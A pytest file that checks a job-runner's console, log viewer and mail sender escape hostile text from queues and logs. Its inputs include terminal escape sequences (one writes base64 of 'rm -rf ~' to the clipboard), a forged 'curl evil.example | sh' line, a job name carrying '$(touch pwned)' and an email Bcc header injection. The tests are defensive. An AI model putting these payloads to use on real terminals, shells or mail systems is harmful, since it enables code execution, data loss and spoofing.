"""What others wrote (names, reasons, log lines) cannot command the terminal, nor pass for a line of ours."""

import io
import json
import re
import shlex
from argparse import Namespace
from types import SimpleNamespace

import pytest

from distributed_something.aws import queue, sns_topic
from distributed_something.commands import failed_jobs, logs, status
from distributed_something.commands.setup import setup
from distributed_something.terminal.console import Console
from distributed_something.terminal.sanitize import one_line, visible

# Sets the title, erases the screen, writes to the clipboard, asks for an answer that is typed in; C1 CSI;
# letters in another order than they are written; backspaces; a line break.
SEQUENCES = {
    "title": "\x1b]0;you were hacked\x07",
    "erase": "\x1b[2J\x1b[H",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "report": "\x1b[6n\x05",
    "C1": "\x9b31m\x90q\x9c",
    "bidi": "abc\u202egpj.exe\u2066x",
    "overwrite": "failed\b\b\b\b\b\bdone  \rdone",
    "lone surrogate": "\ud800",
    "NUL and DEL": "\0\x7f",
}
# All that a message of SQS or a line of CloudWatch can hold.
WHOLE = "|".join(SEQUENCES.values()).replace("\ud800", "").replace("\0", "")
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
FORGED = "no reason\nNext:  curl evil.example | sh\u2028\x85again"


@pytest.mark.parametrize("name", SEQUENCES)
@pytest.mark.parametrize("way", ["result", "say", "warn", "next_command"])
def test_no_character_that_a_terminal_obeys_gets_through(name, way):
    stream = io.StringIO()
    getattr(Console(stream, stream), way)(f"before {SEQUENCES[name]} after")
    assert not OBEYED.search(stream.getvalue())
    assert "before " in stream.getvalue()
    assert " after" in stream.getvalue()


def test_a_question_shows_them_too():
    stream, stdin = io.StringIO(), io.StringIO("y\n")
    stdin.isatty = lambda: True
    assert Console(stream, stream, stdin).confirm("Remove \x1b[8mall\x1b[0m?")
    assert stream.getvalue() == "Remove \\x1b[8mall\\x1b[0m? [y/N] "


def test_tabs_lines_and_every_script_stay():
    text = "a\tb\nÄpfel, 細胞, خلية, 🔬"
    assert visible(text) == text


def test_a_terminal_that_lacks_a_letter_gets_an_escape_and_no_traceback():
    stream = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    Console(stream, stream).result("Äpfel \ud800")
    stream.flush()
    assert stream.buffer.getvalue() == b"\\xc4pfel \\ud800\n"


def test_one_line_is_one_line():
    assert one_line(FORGED) == "no reason Next:  curl evil.example | sh again"
    assert len(one_line(FORGED).splitlines()) == 1


def record(bench, job, reason, stream="well A01"):
    """A failed job in ledger, log and dead-letter queue, as hostile as whoever writes there can make it."""
    name, client = bench.name, bench.aws.logs
    line = json.dumps({"job": job, "outcome": "TOOL_FAILED", "reason": reason, "attempt": 1})
    for group, where, text in ((name + "_jobs", "ledger", line), (name, stream, reason)):
        client.create_log_stream(logGroupName=group, logStreamName=where)
        # After the message was sent, by whatever clock: an attempt that came before it is not its own.
        event = {"timestamp": int(bench.aws.clock.now() * 1000) + 3_600_000, "message": text}
        client.put_log_events(logGroupName=group, logStreamName=where, logEvents=[event])
    body = json.dumps({"group": {"job": job}})
    queue.send_batch(bench.aws, queue.find_url(bench.aws, name + "Dead"), [body], name)


@pytest.fixture
def context(bench):
    made = bench.context(JOB_NAME="{job}", COMMAND="tool {job}")
    setup(made)
    bench.said()
    return made


def typed(command, context, **arguments):
    """Run a command with these arguments, the others being what they are when they are not typed."""
    usual = {"job": "", "follow": False, "failed": False, "machines": False, "save": None, "remove": False}
    usual.update(json=False, watch=False, monitorfile=None)
    command.run(Namespace(**{**usual, **arguments}), context)


def test_status_logs_and_failed_jobs_show_them_as_text_and_on_one_line(bench, context):
    record(bench, "well A01", WHOLE + FORGED)
    typed(status, context)
    typed(failed_jobs, context)
    lines = (bench.out.getvalue() + bench.err.getvalue()).splitlines()
    assert len([line for line in lines if "no reason" in line]) == 2
    assert not [line for line in lines if line.startswith("Next:  curl")]
    typed(logs, context, failed=True)
    typed(logs, context, job="well")
    shown = bench.out.getvalue() + bench.err.getvalue()
    assert shown.count("no reason") == 4
    assert not OBEYED.search(shown)


def test_a_job_s_name_in_a_command_to_copy_stays_a_name(bench, context):
    """The line is there to be copied into a shell."""
    job = "A01; touch pwned $(touch pwned) 'x"
    record(bench, job, "exit 3", stream="job")
    typed(failed_jobs, context)
    (line,) = [one for one in bench.said().splitlines() if one.startswith("To see a job's log:")]
    assert shlex.split(line.split(":", 1)[1]) == ["python", "run.py", "logs", job]


def test_json_output_is_ascii(bench, context):
    record(bench, "well A01", WHOLE)
    typed(failed_jobs, context, json=True)
    assert not OBEYED.search(bench.out.getvalue())


def test_a_mail_has_one_subject_and_no_control_characters():
    sent = []
    sns_topic.send(
        SimpleNamespace(sns=SimpleNamespace(publish=lambda **message: sent.append(message))),
        "arn:topic",
        "me@example.org",
        "App has ended\r\nBcc: all@example.org\x1b[2J" + "x" * 200,
        "failed: A01: \x1b[2Jexit 3\nthe next",
    )
    (message,) = sent
    assert message["Subject"].startswith("App has ended Bcc: all@example.org\\x1b[2J")
    assert (len(message["Subject"]), len(message["Subject"].splitlines())) == (100, 1)
    assert message["Message"] == "failed: A01: \\x1b[2Jexit 3\nthe next"
